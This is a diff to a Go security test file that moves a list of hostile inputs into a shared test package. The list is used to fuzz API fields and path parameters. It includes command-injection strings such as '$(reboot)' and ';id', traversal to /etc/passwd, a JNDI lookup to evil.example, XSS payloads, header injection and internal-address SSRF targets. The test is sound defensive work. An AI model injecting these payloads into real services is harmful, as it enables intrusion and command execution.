@@ -11,16 +11,8 @@ import (
 	"testing"
 
 	"github.com/parley-meet/parley/services/internal/api"
+	"github.com/parley-meet/parley/services/internal/apitest"
 )
-
-// hostile are texts that some program somewhere has taken for more than text.
-var hostile = []string{
-	"$(reboot)", "`reboot`", ";id", "| id", "&& id", "|| reboot", "%0aid", "x\nid", "x\r\nSet-Cookie: a=b", "' or '1'='1", `"; id; "`,
-	"../../../../etc/passwd", "/etc/passwd\x00.pem", "--help", "-oProxyCommand=id", "{{.}}", "{{template \"frame.html\" .}}", "${jndi:ldap://evil.example/a}",
-	"<script>alert(1)</script>", `"><img src=x onerror=alert(1)>`, "javascript:alert(1)", "%s%n%d%x", "\x00", "a\x00b",
-	"\x1b[2J\x1b]0;owned\x07", "\u009b31m", "\u202egnp.exe", "\u2066hidden\u2069", "\ufffe", "\U000e0041", "admin ", "АДМИН",
-	strings.Repeat("A", 10<<10), strings.Repeat("9", 400), "169.254.169.254", "0x7f.1", "::ffff:127.0.0.1", "1.2.3.4/0", "127.0.0.1", "255.255.255.255", "file:///etc/passwd", "-1", "1e9", "NaN",
-}
 
 // valid are bodies to put one hostile text into. An endpoint that is not named
 // gets its sample, with every other field empty.
@@ -60,7 +52,7 @@ func TestAttackInjection(t *testing.T) {
 			r.shownAsText(t, admin)
 			quiet(t, r)
 			for _, q := range r.server.Asked() {
-				if s := fmt.Sprintf("%+v", q); hostileIn(s) {
+				if s := fmt.Sprintf("%+v", q); apitest.HostileIn(s) {
 					t.Errorf("PID 1 was asked for %s", s)
 				}
 			}
@@ -89,22 +81,13 @@ func (r *rig) pair(t *testing.T) []byte {
 	return body
 }
 
-func hostileIn(text string) bool {
-	for _, h := range hostile {
-		if strings.ContainsAny(h, "$`;|&<{\x1b\x00") && strings.Contains(text, h) {
-			return true
-		}
-	}
-	return false
-}
-
 func (r *rig) injectFields(t *testing.T, admin *browser, e endpoint, body []byte) {
 	t.Helper()
 	var v any
 	if err := json.Unmarshal(body, &v); err != nil {
 		t.Fatal(err)
 	}
-	fields := stringPaths(v)
+	fields := apitest.StringPaths(v)
 	if len(fields) == 0 {
 		t.Errorf("%s takes a body and no text was found in it: %s", e.ID, body)
 	}
@@ -114,8 +97,8 @@ func (r *rig) injectFields(t *testing.T, admin *browser, e endpoint, body []byte
 			parts[i] = fmt.Sprint(p)
 		}
 		field := strings.Join(parts, ".")
-		for _, h := range hostile {
-			b, err := json.Marshal(with(v, path, h))
+		for _, h := range apitest.Hostile {
+			b, err := json.Marshal(apitest.With(v, path, h))
 			if err != nil {
 				t.Fatal(err)
 			}
@@ -173,7 +156,7 @@ func otherFault(e endpoint, p api.Problem, field string) bool {
 func (r *rig) injectPath(t *testing.T, admin *browser, e endpoint) {
 	t.Helper()
 	for _, m := range api.PathParam.FindAllStringIndex(e.Path, -1) {
-		for _, h := range hostile {
+		for _, h := range apitest.Hostile {
 			if len(h) > 2000 {
 				h = h[:2000]
 			}
